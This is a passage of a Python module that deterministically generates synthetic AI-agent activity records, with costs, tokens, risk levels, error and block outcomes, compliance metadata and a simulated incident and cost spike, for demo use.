_HEX_LO = _HEX_POS[1::2]
_POW10_12 = 10 ** np.arange(11, -1, -1, dtype=np.int64)
_TIME_DIGIT_POS = np.array([11, 12, 14, 15, 17, 18, 20, 21, 22, 23, 24, 25])
_MILLION = Decimal(1_000_000)

# --- generation ---------------------------------------------------------------------------

_CHUNK = 8192  # actions per internal chunk: output does not depend on batch_size


class _Plan:
    """The time line of one data set and the generation of its chunks."""

    def __init__(self, actions: int, seed: int, end: _dt.date | None) -> None:
        first, last = demo_period(end)
        self.actions = actions
        self.entropy = [0 if seed >= 0 else 1, abs(seed)]
        self.t0 = (first - _EPOCH).days * _US_PER_DAY
        t1 = (last - _EPOCH).days * _US_PER_DAY + _US_PER_DAY  # exclusive
        if end is None or last >= _utc_today():
            now = _dt.datetime.now(_dt.timezone.utc)
            now_us = (now.date() - _EPOCH).days * _US_PER_DAY + (
                (now.hour * 3600 + now.minute * 60 + now.second) * 1_000_000 + now.microsecond)
            t1 = min(t1, now_us)
        if t1 <= self.t0:
            raise ValueError("end is too far in the future: the demo period would be empty")
        self.t1 = t1
        self.costs: dict[int, Decimal] = {}  # micro-USD -> Decimal, shared immutable values
        self.span = t1 - self.t0
        inc_start, inc_stop = incident_window(last)
        spike_start, spike_stop = cost_spike_window(last)
        self.incident = (self._us(inc_start), self._us(inc_stop))
        self.spike = (self._us(spike_start), self._us(spike_stop))
        self._build_intensity()

    @staticmethod
    def _us(moment: _dt.datetime) -> int:
        delta = moment - _dt.datetime(1970, 1, 1, tzinfo=_dt.timezone.utc)
        return (delta.days * 86_400 + delta.seconds) * 1_000_000 + delta.microseconds

    def _build_intensity(self) -> None:
        n_bins = -(-self.span // _US_PER_HOUR)
        edges = self.t0 + np.arange(n_bins + 1, dtype=np.int64) * _US_PER_HOUR
        edges[-1] = self.t1
        starts = edges[:-1]
        hours = (starts // _US_PER_HOUR) % 24
        days = starts // _US_PER_DAY
        weekday = (days + 3) % 7  # 1970-01-01 was a Thursday
        x = (starts - self.t0) / self.span
        density = np.asarray(_HOURLY)[hours] * np.asarray(_WEEKLY)[weekday] * _GROWTH ** x
        # year-end holidays
        day_list = np.unique(days)
        holiday = np.array([
            (d.month == 12 and d.day >= 24) or (d.month == 1 and d.day <= 1)
            for d in (_EPOCH + _dt.timedelta(days=int(v)) for v in day_list)
        ])
        day_pos = days - day_list[0]
        noise_rng = np.random.default_rng([*self.entropy, 0])
        day_noise = noise_rng.lognormal(0.0, 0.12, size=len(day_list)) * np.where(holiday, 0.45, 1.0)
        hour_noise = noise_rng.lognormal(0.0, 0.2, size=n_bins)
        density = density * day_noise[day_pos] * hour_noise
        in_spike = (starts >= self.spike[0]) & (starts < self.spike[1])
        density = np.where(in_spike, density * _SPIKE_INTENSITY, density)
        weights = density * (np.diff(edges) / _US_PER_HOUR)
        cum = np.concatenate(([0.0], np.cumsum(weights)))
        self.cdf = cum / cum[-1]
        self.edges_rel = (edges - self.t0).astype(np.float64)

    def _times(self, u: np.ndarray) -> np.ndarray:
        """Inverse of the activity CDF: quantiles in [0, 1) -> µs since the epoch."""
        k = np.searchsorted(self.cdf, u, side="right") - 1
        k = np.clip(k, 0, len(self.cdf) - 2)
        lo, hi = self.cdf[k], self.cdf[k + 1]
        frac = np.clip((u - lo) / (hi - lo), 0.0, 1.0)
        rel = self.edges_rel[k] + frac * (self.edges_rel[k + 1] - self.edges_rel[k])
        return self.t0 + np.minimum(rel.astype(np.int64), self.span - 1)

    def chunks(self) -> Iterator[list[dict[str, Any]]]:
        for index in range(-(-self.actions // _CHUNK)):
            # The records hold no reference cycles: pausing the cyclic garbage collector
            # while building them avoids repeated scans of everything already allocated.
            enabled = gc.isenabled()
            gc.disable()
            try:
                records = self._chunk(index)
            finally:
                if enabled:
                    gc.enable()
            yield records

    def _chunk(self, index: int) -> list[dict[str, Any]]:  # noqa: C901 - one vectorised pipeline
        T = _T
        rng = np.random.default_rng([*self.entropy, 1, index])
        lo = index * _CHUNK
        n = min(_CHUNK, self.actions - lo)

        # runs: lengths, then a start time from the activity curve
        lengths = np.empty(0, dtype=np.int64)
        while lengths.sum() < n:
            more = np.clip(np.rint(rng.lognormal(math.log(7.0), 0.75, size=n // 4 + 16)), 1, 45)
            lengths = np.concatenate((lengths, more.astype(np.int64)))
        ends = np.cumsum(lengths)
        n_runs = int(np.searchsorted(ends, n)) + 1
        lengths = lengths[:n_runs].copy()
        lengths[-1] -= int(ends[n_runs - 1]) - n
        firsts = np.concatenate(([0], np.cumsum(lengths)[:-1]))
        u = (lo + firsts + rng.random(n_runs) * lengths) / self.actions
        run_start = self._times(u)
        run_x = (run_start - self.t0) / self.span

        # agent of each run (time dependent: onboarding, growth, the runaway week)
        weight = T["agent_weight"][None, :] * (run_x[:, None] >= T["agent_start"][None, :])
        org_of_agent = T["agent_org"]
        for org, (onboard, growth) in _ORG_GROWTH.items():
            cols = org_of_agent == _ORG_INDEX[org]
            weight[:, cols] *= (growth ** np.clip((run_x - onboard) / (1 - onboard), 0, 1))[:, None]
        run_spike = (run_start >= self.spike[0]) & (run_start < self.spike[1])
        weight[run_spike, _RUNAWAY_AGENT] *= _SPIKE_AGENT_WEIGHT
        cum = np.cumsum(weight, axis=1)
        target = rng.random(n_runs) * cum[:, -1]
        run_agent = np.minimum((cum <= target[:, None]).sum(axis=1), len(_AGENTS) - 1)
        run_user = _pick_rows(T["agent_user_cum"], run_agent, rng.random(n_runs))
        run_profile = T["agent_profile"][run_agent]
        runaway_runs = run_spike & (run_agent == _RUNAWAY_AGENT)
        run_profile = np.where(runaway_runs, _RUNAWAY_PROFILE, run_profile)
        run_incident = (run_start >= self.incident[0]) & (run_start < self.incident[1])
        run_ids = _uuid_strings(rng, n_runs)

        # actions
        rep = np.repeat(np.arange(n_runs), lengths)
        agent = run_agent[rep]
        action = _pick_rows(T["profile_cum"], run_profile[rep], rng.random(n))
        x = run_x[rep]
        incident_hit = run_incident[rep] & T["incident"][action]
        runaway = runaway_runs[rep]

        err_p = T["err"][action] * T["agent_err_mult"][agent]
        err_p = np.where(incident_hit, np.minimum(err_p * _INCIDENT_ERR_MULT, _INCIDENT_ERR_CAP), err_p)
        blk_p = T["block"][action] * T["agent_blk_mult"][agent]
        draw = rng.random(n)
        outcome = np.where(draw < err_p, 1, np.where(draw < err_p + blk_p, 2, 0))
        is_err = outcome == 1
        is_blk = outcome == 2

        # tokens, cost, duration
        is_llm = T["is_llm"][action]
        prompt = T["prompt_tokens"][action] * rng.lognormal(0.0, 0.6, n)
        completion = T["completion_tokens"][action] * rng.lognormal(0.0, 0.7, n)
        prompt = np.where(runaway, prompt * _SPIKE_PROMPT_FACTOR, prompt)
        completion = np.where(runaway, completion * _SPIKE_COMPLETION_FACTOR, completion)
        prompt = np.where(is_llm, np.maximum(np.rint(prompt), 1), 0).astype(np.int64)
        completion = np.where(is_llm & (T["completion_tokens"][action] > 1),
                              np.maximum(np.rint(completion), 1), 0).astype(np.int64)
        llm_cost = (prompt * T["price_in"][action] + completion * T["price_out"][action]) / 1000.0
        other_cost = T["cost"][action] * np.exp(T["cost_sigma"][action] * rng.standard_normal(n))
        cost = np.where(is_llm, llm_cost, other_cost)
        cost = np.where(is_err, cost * 0.15, cost)
        cost = np.where(is_blk, 0.0, cost)
        micro = np.rint(cost * 1e6).astype(np.int64)

        duration = T["duration"][action] * np.exp(T["duration_sigma"][action] * rng.standard_normal(n))
        duration = duration + completion * T["ms_per_token"][action]
        duration = np.where(is_err, duration * (0.2 + 0.8 * rng.random(n)), duration)
        duration = np.where(is_blk, 12.0 * rng.lognormal(0.0, 0.5, n), duration)

        # messages
        pick = rng.random(n) ** _MESSAGE_SKEW
        odd = rng.random(n)
        err_idx = T["err_offset"][action] + (pick * T["err_count"][action]).astype(np.int64)
        odd_off, odd_cnt = T["odd_error_pool"]
        err_idx = np.where(odd < _ODD_ERROR_RATE, odd_off + (pick * odd_cnt).astype(np.int64), err_idx)
        inc_off, inc_cnt = T["incident_pool"]
        err_idx = np.where(incident_hit & (odd < _INCIDENT_MESSAGE_SHARE),
                           inc_off + (pick * inc_cnt).astype(np.int64), err_idx)
        blk_idx = T["blk_offset"][action] + (pick * T["blk_count"][action]).astype(np.int64)
        oblk_off, oblk_cnt = T["odd_block_pool"]
        blk_idx = np.where(odd < _ODD_BLOCK_RATE, oblk_off + (pick * oblk_cnt).astype(np.int64), blk_idx)
        err_idx = np.where(is_err, err_idx, -1)
        blk_idx = np.where(is_blk, blk_idx, -1)
        forced = T["message_duration"][err_idx]
        duration = np.where(forced > 0, forced + rng.random(n) * 40.0, duration)
        duration = np.clip(np.rint(duration), 0, 1_800_000).astype(np.int64)

        # risk
        risk = T["risk"][action] + (rng.random(n) < T["bump"][action])
        risk = risk + (is_blk & (rng.random(n) < 0.4))
        risk = np.minimum(risk, 3)

        # timestamps: runs are a sequence of actions a few seconds apart
        gap_ms = rng.lognormal(math.log(1800.0), 0.7, n)
        step = gap_ms + np.concatenate(([0], duration[:-1]))
        step[firsts] = 0.0
        walk = np.cumsum(step)
        offset_us = ((walk - walk[firsts][rep]) * 1000.0).astype(np.int64)
        ts = run_start[rep] + offset_us
        run_last = np.maximum.reduceat(ts, firsts)
        overflow = np.maximum(run_last - (self.t1 - 1), 0)
        ts = np.maximum(ts - overflow[rep], self.t0)

        # inputs and outputs
        in_idx = T["input_offset"][action] + (rng.random(n) * T["input_count"][action]).astype(np.int64)
        out_val = np.maximum(np.rint(T["output_scale"][action] * rng.lognormal(0.0, 0.8, n)), 1).astype(np.int64)

        # compliance draws (used for the enterprise organization only)
        org = T["agent_org"][agent]
        category = T["category"][action]
        classification = _pick_rows(T["class_cum"], category, rng.random(n))
        pii = rng.random(n) < T["pii_p"][category]
        review_p = 0.02 + 0.3 * (risk >= 2) + 0.15 * pii
        decision = np.where(is_blk, 1, np.where(rng.random(n) < review_p, 2, 0))
        reviewer_draw = rng.random(n)
        has_reviewer = np.where(decision == 2, reviewer_draw < 0.9,
                                np.where(decision == 1, reviewer_draw < 0.4,
                                         (risk == 3) & (reviewer_draw < 0.5)))
        reviewer = (rng.random(n) * len(_REVIEWERS)).astype(np.int64)
        version = category * 3 + np.minimum((x * 3).astype(np.int64), 2)
        retention = (ts // _US_PER_DAY + T["retention_days"][category]).astype("datetime64[D]")
        ids = _uuid_strings(rng, n)

        # assemble, in time order
        order = np.argsort(ts, kind="stable")
        ts_text = _iso_strings(ts[order])
        action_o = action[order]
        agent_o = agent[order]
        rep_o = rep[order]
        outcome_o = outcome[order].tolist()
        is_llm_o = is_llm[order].tolist()
        names = T["names"][action_o].tolist()
        agents = T["agent_names"][agent_o].tolist()
        users = T["user_names"][run_user[rep_o]].tolist()
        orgs = T["org_names"][org[order]].tolist()
        risks = np.array(_RISKS, dtype=object)[risk[order]].tolist()
        errs = T["messages"][err_idx[order]].tolist()
        blks = T["messages"][blk_idx[order]].tolist()
        envs = T["agent_env"][agent_o].tolist()
        regions = T["agent_region"][agent_o].tolist()
        versions = np.array(_AGENT_VERSIONS, dtype=object)[np.minimum((x[order] * 8).astype(np.int64), 7)].tolist()
        micro_o = micro[order].tolist()
        dur_o = duration[order].tolist()
        in_o = in_idx[order].tolist()
        out_val_o = out_val[order].tolist()
        action_l = action_o.tolist()
        prompt_o = prompt[order].tolist()
        completion_o = completion[order].tolist()
        run_id_o = [run_ids[r] for r in rep_o.tolist()]
        ids_o = [ids[i] for i in order.tolist()]

        comp: list[Any] = [None] * n
        ent = np.flatnonzero(org[order] == _ENTERPRISE)
        if len(ent):
            src = order[ent]
            cat_e = category[src].tolist()
            pii_e = pii[src].tolist()
            policy_ids = T["policy_ids"]
            frameworks = T["frameworks"]
            for pos, c, p, ver, dec, cls, ret, rv, has in zip(
                ent.tolist(), cat_e, pii_e,
                T["policy_versions"][version[src]].tolist(),
                np.array(_DECISIONS, dtype=object)[decision[src]].tolist(),
                np.array(_CLASSIFICATIONS, dtype=object)[classification[src]].tolist(),
                np.datetime_as_string(retention[src]).tolist(),
                np.array(_REVIEWERS, dtype=object)[reviewer[src]].tolist(),
                has_reviewer[src].tolist(),
            ):
                comp[pos] = {
                    "policy_id": policy_ids[c],
                    "policy_version": ver,
                    "decision": dec,
                    "data_classification": cls,
                    "pii_detected": p,
                    "regulatory_frameworks": list(frameworks[2 * c + p]),
                    "retention_until": ret,
                    "reviewed_by": rv if has else None,
                }

        inputs = T["inputs"]
        outputs = T["output"]
        output_keys = T["output_key"]
        models = T["model"]
        if len(self.costs) > 500_000:
            self.costs.clear()
        costs = self.costs
        cost_of = costs.get
        records: list[dict[str, Any]] = []
        append = records.append
        for (rid, run_id, stamp, name, a, ag, oc, m, dur, rk, user, og, ii, ov, em, br,
             env, region, ver, llm, pt, ct, cp) in zip(
                ids_o, run_id_o, ts_text, names, action_l, agents, outcome_o, micro_o, dur_o,
                risks, users, orgs, in_o, out_val_o, errs, blks, envs, regions, versions,
                is_llm_o, prompt_o, completion_o, comp):
            if oc == 0:
                output = dict(outputs[a])
                key = output_keys[a]
                if key is not None:
                    output[key] = ov
            else:
                output = None
            cost = cost_of(m)
            if cost is None:
                cost = costs[m] = Decimal(m) / _MILLION
            if llm:
                metadata = {"environment": env, "agent_version": ver, "region": region,
                            "model": models[a], "prompt_tokens": pt, "completion_tokens": ct,
                            "total_tokens": pt + ct}
            else:
                metadata = {"environment": env, "agent_version": ver, "region": region}
            append({
                "id": rid,
                "run_id": run_id,
                "timestamp": stamp,
                "action_name": name,
                "agent_id": ag,
                "outcome": _OUTCOMES[oc],
                "cost_usd": cost,
                "duration_ms": dur,
                "risk_level": rk,
                "user_id": user,
                "org_id": og,
                "input": dict(inputs[ii]),
                "output": output,
                "error_message": em,
                "blocked_reason": br,
                "metadata": metadata,
                "compliance": cp,
            })
        return records


def generate_actions(*, actions: int = 200_000, seed: int = 42, end: _dt.date | None = None,
                     batch_size: int = 50_000) -> Iterator[list[dict[str, Any]]]:
    """Yield the demo actions in batches (lists) of LedgerEntry ingest dicts.

    Exactly `actions` records in all, in batches of `batch_size` (the last one may be
    shorter), roughly chronological. Deterministic for a given `(seed, actions, end)`:
    `batch_size` only changes how the same records are cut into lists. `end` (default:
    today, UTC) is the last day covered; the data spans the 18 months up to it and never
    lies after its 23:59:59.999999 UTC, nor after the current time.
    """
    if isinstance(actions, bool) or not isinstance(actions, int) or actions < 0:
        raise ValueError("actions must be a whole number >= 0")
    if isinstance(batch_size, bool) or not isinstance(batch_size, int) or batch_size < 1:
        raise ValueError("batch_size must be a whole number >= 1")
    if isinstance(seed, bool) or not isinstance(seed, int):
        raise ValueError("seed must be a whole number")
    plan = _Plan(actions, seed, end)
    return _batches(plan, batch_size)


def _batches(plan: _Plan, batch_size: int) -> Iterator[list[dict[str, Any]]]:
    pending: list[dict[str, Any]] = []
    for chunk in plan.chunks():
        if not pending and len(chunk) == batch_size:
            yield chunk
            continue
        pending.extend(chunk)
        start = 0
        while len(pending) - start >= batch_size:
            yield pending[start:start + batch_size]
            start += batch_size
        if start:
            del pending[:start]
    if pending:
        yield pending
